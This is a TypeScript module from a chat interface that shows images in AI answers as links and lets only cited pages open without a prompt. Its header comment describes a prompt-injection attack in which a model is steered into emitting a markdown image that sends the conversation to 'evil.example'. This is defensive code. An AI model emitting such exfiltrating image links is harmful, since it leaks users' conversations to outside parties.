/**
 * What model output may make the browser fetch. An answer can be steered by text the model read
 * (prompt injection), and an image loads without a click: `![](https://evil.example/?q=<chat text>)`
 * would send the conversation to another site. So images in answers are never loaded; each one is
 * shown as a link the person can choose to follow (through Streamdown's link-safety prompt). The
 * one kind of link that opens without that prompt is a citation: a page the answer's web search
 * cites (its url_citation annotations, which the provider adds, not the answer's text).
 */

/** `rel` of a link made from an image: no opener, no referrer, no endorsement. */
export const IMAGE_LINK_REL = "noopener noreferrer nofollow";
const IMAGE_LINK_TARGET = "_blank";
/** Link text when the image has no (usable) alt text. */
const IMAGE_LINK_FALLBACK_LABEL = "image";

interface ImageLink {
  /** An absolute http(s) URL, or null when the source is not one (then only the label is shown). */
  href: string | null;
  label: string;
  rel: typeof IMAGE_LINK_REL;
  target: typeof IMAGE_LINK_TARGET;
}

/** How an image of model output is shown instead of an `<img>`. */
export function imageAsLink(src: unknown, alt: unknown): ImageLink {
  const label = typeof alt === "string" && alt.trim() !== "" ? alt.trim() : IMAGE_LINK_FALLBACK_LABEL;
  return { href: absoluteHttpUrl(src), label, rel: IMAGE_LINK_REL, target: IMAGE_LINK_TARGET };
}

function absoluteHttpUrl(src: unknown): string | null {
  if (typeof src !== "string" || !URL.canParse(src.trim())) return null;
  const url = new URL(src.trim());
  return url.protocol === "https:" || url.protocol === "http:" ? url.href : null;
}

/** `rel` of a link to a cited page: no opener, no referrer. */
export const CITATION_LINK_REL = "noopener noreferrer";

/** Whether `href` is one of the http(s) pages the answer cites (compared as parsed URLs). */
export function isCitedLink(href: unknown, citedUrls: readonly string[]): boolean {
  const url = absoluteHttpUrl(href);
  return url !== null && citedUrls.some((cited) => absoluteHttpUrl(cited) === url);
}
